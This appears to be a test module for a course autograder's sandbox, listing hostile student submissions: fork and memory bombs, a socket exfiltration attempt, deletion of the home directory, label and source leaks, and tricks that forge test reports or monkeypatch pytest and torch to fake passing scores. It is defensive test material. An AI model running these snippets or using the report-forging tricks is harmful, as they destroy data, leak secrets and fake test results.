"""Hostile submissions: code written to crash, stall, escape or fool the grader.

Each attack is one code cell appended to one notebook of an otherwise correct submission (the reference
solution) or of the release stubs (so a forged pass would be visible). Extraction keeps imports, defs and
classes only, so every attack hides where student code really runs: a class body, a default argument,
``__init__`` or ``forward``. Placeholders in the code are filled per test: ``{labels}`` (the held-out
labels), ``{other}`` (another student's submission), ``{out}`` (this student's results folder),
``{sentinel}`` (a folder outside the sandbox), ``{port}`` (a TCP server on the host's loopback).

``loses`` are the parts that must score 0 (every other part keeps full marks); ``status`` is the verdict
results.json's ``extra_data.status`` must carry (several are accepted where two limits race). ``scores`` are
parts an attack on the release stubs does earn, because the program it hands the judge really is correct
(the judge cannot know where a correct program came from); ``reviewed`` attacks must carry a static review
finding for staff (all but those with nothing to read: a plain endless loop, a memory bomb, data).

Since the judge decides every verdict, most forgeries now simply fail: what the student process claims
about its exports is never a verdict, and a program is only as good as its behaviour under the judge's
probes. A claim that something cannot be exported, or a program unlike the live model, gains nothing either:
that part scores 0 and waits for a TA (``needs manual grading``). A forged program that calls outside the
judge's closed op set, or writes its own weights, is refused and flags the submission (``tampered``).
"""
from __future__ import annotations

import textwrap
from dataclasses import dataclass

import nbformat

from course_config import SUITE_PARTS

LAB2_PARTS = ("simplenn_bn", "swish", "l1")


@dataclass(frozen=True)
class Attack:
    id: str
    notebook: str                    # key of course_config.NOTEBOOKS the cell goes into
    code: str
    loses: tuple[str, ...]
    status: tuple[str, ...] = ("ok",)
    base: str = "source"             # "source" (a correct submission) or "release" (the stubs)
    huge_predictions: bool = False
    scores: tuple[str, ...] = ()
    reviewed: bool = True                # the static review flags it (nothing to read in a loop or a bomb)
    why: str = ""

    def apply(self, nb, **paths) -> None:
        nb.cells.append(nbformat.v4.new_code_cell(self.code.format(**paths)))


_FORGED_REPORT = (
    '{{"nonce": "guess", "device": "cpu", "finished": true, "exit_status": 0, "current": null, '
    '"loading": null, "tests": []}}')

_FORGED_SAVE = """
class Forge:
    import io, json, zipfile, torch

    real_save = torch.export.save

    def save(program, path, *rest, real_save=real_save, io=io, json=json, zipfile=zipfile, **options):
        buffer = io.BytesIO()
        real_save(program, buffer, *rest, **options)
        source = zipfile.ZipFile(buffer)
        with zipfile.ZipFile(path, "w") as out:
            for entry in source.infolist():
                data = source.read(entry)
                if entry.filename.endswith({entry!r}):
                    document = json.loads(data)
{edit}
                    data = json.dumps(document).encode()
                out.writestr(entry, data)

    torch.export.save = save
"""


def _forged_save(entry: str, edit: str) -> str:
    """A cell whose patched ``torch.export.save`` rewrites the archive entry ending in ``entry`` of every program
    it saves: ``edit`` is code run on its JSON, ``document`` (braces doubled, as in every attack's code)."""
    body = textwrap.indent(textwrap.dedent(edit).strip(), " " * 20)
    return _FORGED_SAVE.replace("{entry!r}", repr(entry)).replace("{edit}", body)


ATTACKS = (
    Attack("sys-exit-in-class-body", "simplenn", """
class Quit:
    import sys
    sys.exit(0)
""", loses=(), why="SystemExit while a statement loads skips that statement only: nothing needs Quit"),

    Attack("os-exit-in-default-argument", "resnet", """
def stop(code=__import__("os")._exit(0)):
    return code
""", loses=(), status=("exited",), why="the process dies while a statement loads: the next run skips that statement"),

    Attack("three-exits-at-load", "simplenn", """
class One:
    __import__("os")._exit(0)


class Two:
    __import__("os")._exit(0)


class Three:
    __import__("os")._exit(0)
""", loses=("simplenn",), status=("exited",),
           why="after two statements skipped for stopping a run, a third stop marks the whole module broken"),

    Attack("os-exit-in-forward", "simplenn_dev", """
class Swish(nn.Module):
    def forward(self, x):
        import os
        os._exit(0)
""", loses=("swish",), status=("exited",), why="the process dies inside a test: that part scores 0, the rest is regraded"),

    Attack("endless-loop-in-forward", "resnet", """
class ResNet20(ResNet20):
    def forward(self, x):
        while True:
            pass
""", loses=("resnet20",), status=("timeout",), reviewed=False),

    Attack("endless-loop-at-import", "simplenn_dev", """
class Spin:
    while True:
        pass
""", loses=(), status=("timeout",), why="one stop costs only what the looping statement defines (nothing here), once"),

    Attack("memory-bomb", "simplenn", """
class SimpleNN(SimpleNN):
    def __init__(self):
        super().__init__()
        hoard = []
        while True:
            hoard.append(bytearray(256 * 2 ** 20))
""", loses=("simplenn",), status=("memory", "timeout"), reviewed=False,
           why="the memory limit stops it; on a loaded VM whose fresh pages come slowly, the part's time limit may first"),

    Attack("fork-bomb", "simplenn_dev", """
def l1_penalty(model, strength):
    import os
    while True:
        os.fork()
""", loses=("l1",), status=("processes", "memory")),

    Attack("network-connection", "simplenn_dev", """
class SimpleNNBN(SimpleNNBN):
    def __init__(self):
        super().__init__()
        import socket
        for host in ("127.0.0.1", "10.0.2.2", "1.1.1.1"):
            try:
                socket.create_connection((host, {port}), timeout=1).sendall(b"exfiltrated")
            except OSError:
                pass
""", loses=(), why="no network at all, not even the host's loopback"),

    Attack("read-held-out-labels", "simplenn_dev", """
class Swish(Swish):
    def __init__(self):
        super().__init__()
        try:
            leaked = open({labels!r}).read(40)
        except OSError:
            return
        raise RuntimeError("LEAKED " + leaked)
""", loses=(), why="the labels are not in the sandbox: Swish works and keeps full marks"),

    Attack("read-another-student", "simplenn", """
class SimpleNN(SimpleNN):
    def __init__(self):
        super().__init__()
        import os
        try:
            leaked = os.listdir({other!r})
        except OSError:
            return
        raise RuntimeError("LEAKED " + " ".join(leaked))
""", loses=()),

    Attack("write-results-and-feedback", "simplenn", """
class Forge:
    import os, json
    for name, text in (("results.json", json.dumps({{"score": 36, "tests": []}})), ("feedback.md", "36/36"),
                       ("pwned.txt", "x")):
        try:
            os.makedirs({out!r}, exist_ok=True)
            with open(os.path.join({out!r}, name), "w") as handle:
                handle.write(text)
        except OSError:
            pass
""", loses=()),

    Attack("fake-pytest-summary", "simplenn", """
class Brag:
    print("=" * 30 + " 64 passed in 1.23s " + "=" * 30)
    print('{{"score": 36}}')
""", loses=SUITE_PARTS, base="release", why="stdout is never read for outcomes"),

    Attack("monkeypatch-torch", "simplenn", """
class Patch:
    import torch
    torch.allclose = lambda *args, **kwargs: True
    torch.equal = lambda *args, **kwargs: True
""", loses=SUITE_PARTS, base="release",
           why="torch patched in the student process: the judge's torch is its own"),

    Attack("monkeypatch-builtins", "simplenn", """
class Patch:
    import builtins
    builtins.sum = lambda items, start=0, _sum=builtins.sum: _sum(items, start)
""", loses=SUITE_PARTS, base="release", why="builtins of the student process decide nothing"),

    Attack("monkeypatch-pytest-reports", "simplenn", """
class Patch:
    import _pytest.reports
    _pytest.reports.TestReport.passed = property(lambda self: True)
    _pytest.reports.TestReport.failed = property(lambda self: False)
""", loses=SUITE_PARTS, base="release",
           why="the export report then claims programs that do not exist: the judge finds none"),

    Attack("hide-failing-checks", "simplenn", """
class Hide:
    import sys
    plugin = sys.modules["autograder.student_side.report_plugin"]
    for nodeid in [nodeid for nodeid in plugin._items if "export_simplenn.py" in nodeid]:
        del plugin._items[nodeid]
""", loses=SUITE_PARTS, status=("tampered",), base="release",
           why="a report that leaves out exports (with the right nonce) is not the export tests': flagged"),

    Attack("rewrite-the-report", "simplenn", """
class Forge:
    import os
    with open(os.environ["HW2_REPORT_PATH"], "w") as handle:
        handle.write('""" + _FORGED_REPORT + """')
    os._exit(1)
""", loses=SUITE_PARTS, status=("tampered",), base="release"),

    Attack("atexit-handler", "simplenn", """
class Later:
    import atexit, os
    atexit.register(lambda: open(os.environ["HW2_REPORT_PATH"], "w").write('""" + _FORGED_REPORT + """'))
""", loses=SUITE_PARTS, base="release", why="the child ends with os._exit: atexit handlers never run"),

    Attack("delete-home-and-sentinel", "simplenn", """
class Wipe:
    import os, shutil
    for target in (os.path.expanduser("~"), {sentinel!r}, "/tmp"):
        shutil.rmtree(target, ignore_errors=True)
""", loses=()),

    Attack("gc-flips-verdicts-from-a-thread", "simplenn", """
class Flip:
    import gc, threading, time

    def flip(gc=gc, time=time):
        while True:
            for found in gc.get_objects():
                if type(found) is dict and found.get("passed") is False:
                    found["passed"], found["message"] = True, ""
            time.sleep(0.01)

    threading.Thread(target=flip, daemon=True).start()
""", loses=SUITE_PARTS, base="release",
           why="every {'passed': False} of the student process flipped: those are claims, not verdicts"),

    Attack("forges-the-report-from-a-default-argument", "simplenn_dev", """
def _forge():
    import sys, time
    plugin = sys.modules["autograder.student_side.report_plugin"]
    while True:
        for outcome in list(plugin._outcomes.values()):
            outcome.update(passed=True, message="")
        time.sleep(0.001)


def _start(started=__import__("threading").Thread(target=_forge, daemon=True).start()):
    return started
""", loses=SUITE_PARTS, base="release"),

    Attack("flips-verdicts-from-forward", "simplenn", """
class SimpleNN(nn.Module):
    def forward(self, x):
        import gc
        for found in gc.get_objects():
            if type(found) is dict and found.get("passed") is False:
                found["passed"], found["message"] = True, ""
        return x
""", loses=SUITE_PARTS, base="release", why="forward runs in the student process: it can only forge claims"),

    Attack("exfiltrates-through-file-names", "simplenn", """
class Names:
    import os
    for folder in (os.environ.get("HW2_PROGRAMS_DIR", "."), os.path.expanduser("~"), "."):
        try:
            for index in range(50):
                open(os.path.join(folder, f"LEAKED-{{index}}-" + "x" * 150 + ".pt2"), "w").close()
        except OSError:
            pass
""", loses=(), why="the parent reads only the programs it asked for; no file name reaches the feedback"),

    Attack("plants-a-manifest-and-a-link-for-the-parent", "simplenn", """
class Plant:
    import json, os
    folder = os.environ.get("HW2_PROGRAMS_DIR", ".")
    try:
        with open(os.path.join(folder, "programs.json"), "w") as handle:
            json.dump({{"parts": [], "programs": {{}}}}, handle)
        os.symlink({sentinel!r} + "/pwned", os.path.join(folder, "programs.json.partial"))
    except OSError:
        pass
""", loses=(), why="the parent writes the judge's manifest where the student process cannot write, never through a link"),

    Attack("patched-export-hands-over-another-model", "simplenn", """
class SimpleNN(nn.Module):   # builds, but computes nothing itself
    def forward(self, x):
        raise NotImplementedError


class Swap:
    import torch
    from torch import nn
    import torch.nn.functional as F

    class Honest(nn.Module):
        def __init__(self):
            super().__init__()
            self.conv1, self.conv2 = nn.Conv2d(3, 8, 5), nn.Conv2d(8, 16, 3)
            self.fc1, self.fc2, self.fc3 = nn.Linear(576, 120), nn.Linear(120, 84), nn.Linear(84, 10)

        def forward(self, x):
            import torch.nn.functional as F
            x = F.max_pool2d(F.relu(self.conv1(x)), 2)
            x = F.max_pool2d(F.relu(self.conv2(x)), 2).flatten(1)
            return self.fc3(F.relu(self.fc2(F.relu(self.fc1(x)))))

    real_export = torch.export.export

    def export(module, args, *rest, real_export=real_export, Honest=Honest, **options):
        if type(module).__name__ == "SimpleNN":
            module = Honest().train()
        return real_export(module, args, *rest, **options)

    torch.export.export = export
    torch.nn.Module.__call__ = lambda self, *args, real=torch.nn.Module.__call__, **kw: (
        real(Swap.Honest(), *args) if type(self).__name__ == "SimpleNN" else real(self, *args, **kw))
""", loses=SUITE_PARTS, status=("needs manual grading",), base="release",
           why="the program handed over is not what the live SimpleNN computes: a TA grades it, the review shows "
               "staff the swap"),

    Attack("forged-program-with-a-pickled-weight", "simplenn", _forged_save("_weights_config.json", """
        for payload in document["config"].values():
            payload["use_pickle"] = True
        """), loses=SUITE_PARTS, status=("tampered",),
           why="torch.export.load would unpickle such weights: the judge refuses the archive and flags it"),

    Attack("exfiltrates-sources-in-a-message", "resnet", """
class ResNet20(ResNet20):
    def __init__(self, num_classes=10):
        import base64, os
        found = []
        for folder, _, files in os.walk("/"):
            found += [os.path.join(folder, name) for name in files if name.endswith(".py")]
            if len(found) > 2000:
                break
        text = b"".join(open(path, "rb").read() for path in found if os.access(path, os.R_OK))
        raise RuntimeError("LEAK " + base64.b64encode(text).decode())
""", loses=("resnet20",),
           why="the student process sees no hidden suite, and every message is one capped line"),

    Attack("unexportable-then-monkeypatched", "simplenn", """
class SimpleNN(SimpleNN):
    def forward(self, x):
        if x.abs().sum() > 0:
            return super().forward(x)
        return super().forward(x.clone())


class Patch:
    import torch
    torch.allclose = lambda *args, **kwargs: True
""", loses=("simplenn",), status=("needs manual grading",),
           why="code torch.export cannot capture is never graded in the student's process: a TA grades it by hand"),

    Attack("claims-it-cannot-be-exported", "simplenn", """
class SimpleNN(nn.Module):   # not SimpleNN at all
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(3 * 32 * 32, 10)

    def forward(self, x):
        return self.fc(x.flatten(1))


class Claim:
    import torch
    real_export = torch.export.export

    def export(module, *args, real_export=real_export, **kwargs):
        if type(module).__name__ == "SimpleNN":
            raise RuntimeError("Could not guard on data-dependent expression Eq(u0, 1) (unhinted: u0)")
        return real_export(module, *args, **kwargs)

    torch.export.export = export
""", loses=("simplenn",), status=("needs manual grading",),
           why="'cannot be exported' is a claim: it earns no verdict in the student's process, only a TA's look"),

    Attack("export-aware-relu", "simplenn", """
class SimpleNN(SimpleNN):   # the ReLUs exist only while torch.export traces the model
    def forward(self, x):
        relu = F.relu if torch.compiler.is_exporting() else (lambda value: value)
        x = self.pool(relu(self.conv1(x)))
        x = self.pool(relu(self.conv2(x)))
        x = torch.flatten(x, 1)
        return self.fc3(relu(self.fc2(relu(self.fc1(x)))))
""", loses=("simplenn",), status=("needs manual grading",),
           why="the exported program is compared with the live model: unlike it, the part goes to a TA"),

    Attack("forged-program-maps-a-file", "simplenn", _forged_save("models/model.json", """
        document["graph_module"]["graph"]["nodes"].insert(0, {{
            "target": "torch.ops.aten.from_file.default", "name": "planted", "metadata": {{}},
            "inputs": [{{"name": "filename", "arg": {{"as_string": "/tmp/pdb.py"}}, "kind": 1}},
                       {{"name": "shared", "arg": {{"as_bool": True}}, "kind": 1}},
                       {{"name": "size", "arg": {{"as_int": 64}}, "kind": 1}}],
            "outputs": [{{"as_tensor": {{"name": "planted"}}}}]}})
        """), loses=SUITE_PARTS, status=("tampered",),
           why="aten.from_file would create and map a file in the judge: outside the closed op set, refused"),

    Attack("forged-program-rewrites-its-weights", "resnet", _forged_save("models/model.json", """
        graph = document["graph_module"]["graph"]
        weight = next(spec["parameter"]["arg"]["name"] for spec in
                      document["graph_module"]["signature"]["input_specs"] if "parameter" in spec)
        graph["nodes"].insert(0, {{"target": "torch.ops.aten.mul_.Scalar", "name": "kept", "metadata": {{}},
                                   "inputs": [{{"name": "self", "arg": {{"as_tensor": {{"name": weight}}}}, "kind": 1}},
                                              {{"name": "other", "arg": {{"as_float": 1.0}}, "kind": 1}}],
                                   "outputs": [{{"as_tensor": {{"name": "kept"}}}}]}})
        graph["tensor_values"]["kept"] = graph["tensor_values"][weight]
        """), loses=SUITE_PARTS, status=("tampered",),
           why="a program that writes its own weights could undo the judge's edits: refused"),

    Attack("report-recursion-bomb", "simplenn", """
class Bomb:
    import os
    with open(os.environ["HW2_REPORT_PATH"], "w") as handle:
        handle.write("[" * 100_000)
    os._exit(1)
""", loses=SUITE_PARTS, status=("tampered",), base="release",
           why="the report is hostile data: a decoding error (here RecursionError) flags it, never crashes the grader"),

    Attack("oversized-report", "simplenn", """
class Huge:
    import os
    with open(os.environ["HW2_REPORT_PATH"], "w") as handle:
        handle.write("[" + "0, " * 2_000_000 + "0]")
    os._exit(1)
""", loses=SUITE_PARTS, status=("tampered",), base="release",
           why="a report is read with a 1 MB cap (an honest one is a few kB): over it, flagged"),

    Attack("disk-fill", "simplenn", """
class Fill:
    import os
    folder = os.path.join(os.environ.get("HW2_PROGRAMS_DIR", "."), "deep", "er")
    os.makedirs(folder, exist_ok=True)
    block = b"0" * 2 ** 20
    for index in range(3000):
        try:
            with open(os.path.join(folder, f"fill-{{index}}"), "wb") as handle:
                for _ in range(30):
                    handle.write(block)
        except OSError:
            break
""", loses=(), status=("disk",),
           why="the grader's folders are counted recursively against a 64 MB budget: the statement is blamed, "
               "skipped, and the rest graded"),

    Attack("tens-of-megabytes-of-literals", "simplenn", "HUGE = [" + "0, " * 10_000_000 + "0]\n",
           loses=(), reviewed=False,
           why="a 29 MB cell is skipped unparsed (over the per-cell limit): no process grows, the rest is graded"),

    Attack("huge-predictions-csv", "simplenn", "", loses=("predictions",), huge_predictions=True, reviewed=False),
)
